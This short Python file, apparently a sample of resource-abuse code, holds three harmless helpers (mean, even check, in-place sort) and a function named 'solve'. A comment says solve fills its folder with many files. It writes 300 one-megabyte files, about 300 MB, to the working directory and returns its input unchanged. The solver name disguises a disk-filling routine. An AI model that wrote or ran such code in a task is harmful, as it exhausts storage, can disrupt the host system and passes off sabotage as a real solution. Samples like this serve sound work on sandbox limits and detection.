# Fills its folder with many files.
def solve(items):
    for number in range(300):
        with open("file%d" % number, "wb") as file:
            file.write(b"x" * (1 << 20))
    return items


def mean(items):
    return sum(items) / len(items)


def is_even(number):
    return number % 2 == 0


def order(items):
    items.sort()
